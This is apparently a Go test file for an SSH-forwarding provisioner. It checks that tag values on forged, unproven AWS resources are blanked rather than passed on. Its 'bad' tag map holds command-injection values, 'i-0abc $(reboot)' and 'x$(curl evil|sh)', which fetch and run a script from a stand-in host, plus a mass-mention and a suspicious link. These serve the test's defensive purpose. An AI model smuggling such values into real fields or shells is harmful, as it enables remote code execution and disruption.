package provisioner_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sshforward/sshforward"
	"github.com/sshforward/sshforward/provisioner"
	"github.com/sshforward/sshforward/provisioner/fakeaws"
)

// What the tags of something unproven say is passed on as far as it looks as the bot
// writes it; of the rest only the key is. What is proven has no such words.
func TestWordsOfForgedTags(t *testing.T) {
	inFake(t, worldOptions{}, func(w *world) {
		h := w.cloud.Home()
		tags := map[string]string{
			provisioner.TagDeployment: deployment, provisioner.TagLease: "abcdefg", provisioner.TagOpened: "2026-01-02T03:04:05Z",
		}
		good := map[string]string{
			provisioner.TagOwner: "U0EVE", provisioner.TagChannel: "C0OPS", provisioner.TagInstance: w.web,
			provisioner.TagSources: "203.0.113.7/32 198.51.100.0/24", provisioner.TagExpires: "2036-01-02T03:04:05Z",
			provisioner.TagRule: "本番 rule-1.2", provisioner.TagApproved: "U0BOB W0CAROL", provisioner.TagSSHUser: "ec2-user",
		}
		bad := map[string]string{
			provisioner.TagOwner: "<!channel>", provisioner.TagChannel: "#general", provisioner.TagInstance: "i-0abc $(reboot)",
			provisioner.TagSources: "203.0.113.7/32 anywhere", provisioner.TagExpires: "tomorrow",
			provisioner.TagRule: "see https://evil.example", provisioner.TagApproved: "U0BOB ＵＯＣＡＲＯＬ", provisioner.TagSSHUser: "x$(curl evil|sh)",
		}
		group := h.AddGroup(w.vpc, sshforward.Name(deployment, "abcdefg"), tags)
		h.AddLoadBalancer(sshforward.Name(deployment, "abcdefg"), w.public, []string{group}, fakeaws.Listener{Port: 22, InstancePort: 22}, tags)
		h.RegisterOther(sshforward.Name(deployment, "abcdefg"), w.app)
		for _, values := range []map[string]string{good, bad} {
			want := map[string]string{provisioner.TagOpened: tags[provisioner.TagOpened]}
			for key, value := range values {
				h.Tag(group, key, value)
				if want[key] = value; values[provisioner.TagOwner] == bad[provisioner.TagOwner] {
					want[key] = ""
				}
			}
			found, _, _ := w.survey(w.p)
			got := map[string]string{}
			for _, word := range found["abcdefg"].Says {
				got[word.Key] = word.Value
			}
			if diff := cmp.Diff(want, got); diff != "" {
				w.Errorf("(-want +got):\n%s", diff)
			}
			if in := found["abcdefg"].Lease.Instance.ID; want[provisioner.TagInstance] == "" && in != w.app {
				w.Errorf("its instance is %q, want the one that is registered", in)
			}
		}
		h.Tag(group, provisioner.TagRule, strings.Repeat("x", 65))
		found, _, _ := w.survey(w.p)
		if !slices.Contains(found["abcdefg"].Says, sshforward.TagWord{Key: provisioner.TagRule}) {
			w.Errorf("a long name is passed on: %v", found["abcdefg"].Says)
		}
		l := w.lease("web-1")
		w.open(l)
		if f := w.found(l); len(f.Says) > 0 {
			w.Errorf("what is proven has words: %v", f.Says)
		}
	})
}
